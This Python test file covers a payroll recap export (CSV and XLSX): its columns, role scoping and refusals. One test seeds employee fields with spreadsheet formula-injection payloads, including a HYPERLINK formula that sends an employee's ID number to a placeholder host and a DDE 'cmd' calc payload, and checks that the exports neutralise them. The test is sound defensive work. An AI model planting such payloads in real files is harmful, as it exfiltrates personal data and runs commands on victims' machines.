"""The monthly recap exports in the payroll layout: CSV and XLSX, same columns, scoped like the page."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from server.services.accounts import Role
from server.services.exports import HEADER
from tests.web_seed import ANI, BUDI, CITRA, WIB, World, last_working_day, seed_month, settle, web_world

DAY = last_working_day(datetime.now(WIB).date())
MONTH = DAY.strftime("%Y-%m")


@pytest.fixture
async def world(db_url):
    async with web_world(db_url) as w:
        await seed_month(DAY)
        await settle()  # the scoring workers' part: the recap reads stored results only
        yield w


async def test_csv_export_has_the_payroll_columns_and_one_row_per_employee(world: World):
    response = await world.client.get("/api/v1/exports/recap.csv", params={"month": MONTH},
                                      headers=world.auth(Role.BUREAU_ADMIN))  # fmt: skip
    assert response.status == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert f'filename="rekap-{MONTH}.csv"' in response.headers["Content-Disposition"]
    raw = await response.read()
    assert raw.startswith("\ufeff".encode())  # spreadsheets read the names' accents right
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert tuple(rows[0]) == HEADER
    body = {row[1]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    assert set(body) == {ANI, BUDI, CITRA}
    assert [row[0] for row in rows[1:]] == ["1", "2", "3"]
    assert int(body[BUDI]["TL2"]) >= 1 and int(body[BUDI]["PSW1"]) >= 1
    assert body[BUDI]["Unit"] == "dir-1" and body[BUDI]["Jabatan"] == "Analis"
    assert float(body[BUDI]["Potongan (%)"]) > float(body[ANI]["Potongan (%)"]) - 0.001


async def test_xlsx_export_opens_with_the_same_rows_and_nip_as_text(world: World):
    csv_rows = list(csv.reader(io.StringIO((await (await world.client.get(
        "/api/v1/exports/recap.csv", params={"month": MONTH}, headers=world.auth(Role.SUPERVISOR))).read()
    ).decode("utf-8-sig"))))  # fmt: skip
    response = await world.client.get("/api/v1/exports/recap.xlsx", params={"month": MONTH},
                                      headers=world.auth(Role.SUPERVISOR))  # fmt: skip
    assert response.status == 200
    book = load_workbook(io.BytesIO(await response.read()))
    sheet = book.active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert tuple(rows[0]) == HEADER
    assert {row[1] for row in rows[1:]} == {ANI, BUDI}  # the supervisor's team only
    for row in sheet.iter_rows(min_row=2):
        assert isinstance(row[1].value, str) and row[1].number_format == "@"
    assert [str(v) for v in rows[1][:5]] == csv_rows[1][:5]


async def test_exports_are_refused_to_employees_and_operations(world: World):
    for role in (Role.EMPLOYEE, Role.OPERATIONS):
        response = await world.client.get("/api/v1/exports/recap.xlsx", headers=world.auth(role))
        assert response.status == 403


# A name that, as a live formula, sends the row's NIP (column B) to a stranger when clicked.
HOSTILE_NAME = '=HYPERLINK("http://x/?"&B2,"Citra")'
HOSTILE_POSITIONS = {ANI: "-2+3+cmd|' /C calc'!A0", BUDI: "@SUM(A1:A9)"}
HOSTILE_EXTRA = {ANI: "\t=1+1", BUDI: "\r=1+1"}  # tab and CR also start a formula in some spreadsheets


async def test_exports_never_write_a_formula_whatever_the_names_hold(world: World):
    from server.models import Employee

    await Employee.filter(nip=CITRA).update(name=HOSTILE_NAME)
    for nip, position in HOSTILE_POSITIONS.items():
        await Employee.filter(nip=nip).update(position=position, name=HOSTILE_EXTRA[nip])
    admin = world.auth(Role.BUREAU_ADMIN)

    response = await world.client.get("/api/v1/exports/recap.xlsx", params={"month": MONTH}, headers=admin)
    assert response.status == 200
    sheet = load_workbook(io.BytesIO(await response.read())).active
    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == {ANI, BUDI, CITRA}
    citra = cells[CITRA]
    # Stored as a string cell holding exactly the name: text, not a formula (openpyxl's type "f").
    assert (citra[2].value, citra[2].data_type, citra[2].quotePrefix) == (HOSTILE_NAME, "s", True)
    for nip in (ANI, BUDI):
        name, position = cells[nip][2], cells[nip][3]
        # (XML reads a stored CR back as LF: still the same string cell.)
        assert (name.value, position.value) == (HOSTILE_EXTRA[nip].replace("\r", "\n"), HOSTILE_POSITIONS[nip])
        assert name.data_type == position.data_type == "s"
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)
        assert row[1].data_type == "s"  # the NIP is always text
    assert all(cell.number_format == "@" for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2))

    response = await world.client.get("/api/v1/exports/recap.csv", params={"month": MONTH}, headers=admin)
    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"), newline="")))
    body = {row[1]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    # OWASP: a field that would start a formula gets a leading single quote; the rest of it is unchanged.
    assert body[CITRA]["Nama"] == "'" + HOSTILE_NAME
    for nip in (ANI, BUDI):
        assert body[nip]["Nama"] == "'" + HOSTILE_EXTRA[nip]
        assert body[nip]["Jabatan"] == "'" + HOSTILE_POSITIONS[nip]
    for row in rows:
        assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in row)
    assert body[CITRA]["NIP"] == CITRA and float(body[CITRA]["Nilai (%)"]) >= 0  # the numbers stay numbers


def test_a_name_stored_with_a_control_character_does_not_break_the_xlsx():
    # Names stored before input refused control characters: openpyxl raises IllegalCharacterError on
    # them, and the whole unit's export was a 500.
    from dataclasses import dataclass
    from datetime import date
    from io import BytesIO

    from openpyxl import load_workbook

    from server.services.exports import recap_xlsx

    @dataclass
    class Line:
        nip: str = "199001012015031002"
        name: str = "Ani\x01 Lestari"
        unit_code: str = "dir-1"
        position: str = "Analis"
        counts: dict = None  # type: ignore[assignment]
        deduction_bp: int = 650
        activity_minutes: int = 0
        score_bp: int = 9350

    line = Line(counts=dict.fromkeys(("TL1", "TL2", "TL3", "TL4", "PSW1", "PSW2", "PSW3", "PSW4", "TK"), 0))
    sheet = load_workbook(BytesIO(recap_xlsx([line], date(2026, 12, 1)))).active
    assert sheet.cell(row=2, column=3).value == "Ani\ufffd Lestari"
